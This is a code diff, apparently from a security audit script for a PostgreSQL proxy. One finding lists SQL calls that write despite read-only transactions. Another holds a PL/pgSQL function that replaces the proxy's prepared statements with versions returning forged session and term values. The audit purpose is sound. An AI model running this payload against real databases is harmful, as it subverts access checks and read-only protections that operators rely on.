@@ -435,7 +435,6 @@ def finding_8():
     rows = []
     holes = {
         "lo_create": "lo_create(0)", "lo_from_bytea": "lo_from_bytea(0, 'x')", "lo_creat": "lo_creat(-1)", "pg_notify": "pg_notify('attack', 'x@N@')", "logical message": "pg_logical_emit_message(true, 'attack', 'x@N@')",
-        "logical message, at once": "pg_logical_emit_message(false, 'attack', 'x@N@')",
     }
     beginnings = {"BEGIN READ ONLY": [[Q("BEGIN READ ONLY")]], "START TRANSACTION": [[Q("START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY")]], "SET TRANSACTION": [[Q("BEGIN")], [Q("SET TRANSACTION READ ONLY")]],
                   "SET default": [[Q("SET default_transaction_read_only = on")], [Q("BEGIN")]], "extended": [group("BEGIN READ ONLY")]}
@@ -458,11 +457,11 @@ def finding_8():
 # --- finding 9: what the proxy prepared is replaced by code behind an everyday name ---
 REPLACE = r"""CREATE OR REPLACE FUNCTION made.forge() RETURNS int LANGUAGE plpgsql AS $f$
 DECLARE s record; types text; BEGIN
-  FOR s IN SELECT name, statement, parameter_types FROM pg_prepared_statements WHERE name LIKE '%termgate%' OR statement LIKE '%check_%' OR statement LIKE '%READ %' LOOP
+  FOR s IN SELECT name, statement, parameter_types FROM pg_prepared_statements WHERE statement ~ 'check_|hold_' AND statement !~ '^PREPARE' LOOP
     EXECUTE format('DEALLOCATE %I', s.name);
     types := array_to_string(s.parameter_types, ',');
     EXECUTE format('PREPARE %I %s AS SELECT %s', s.name, CASE WHEN types = '' THEN '' ELSE '(' || types || ')' END,
-      CASE WHEN s.statement ~ 'check_session' THEN '''forged''::text, 9::bigint, 9::bigint' WHEN s.statement ~ 'check_term' THEN '9::bigint' ELSE '1' END);
+      CASE WHEN s.statement ~ '_session' THEN '''forged''::text, 9::bigint, 9::bigint' WHEN s.statement ~ 'check_term' THEN '9::bigint' ELSE '1' END);
   END LOOP;
   RETURN 1;
 EXCEPTION WHEN OTHERS THEN RETURN 0; END $f$"""
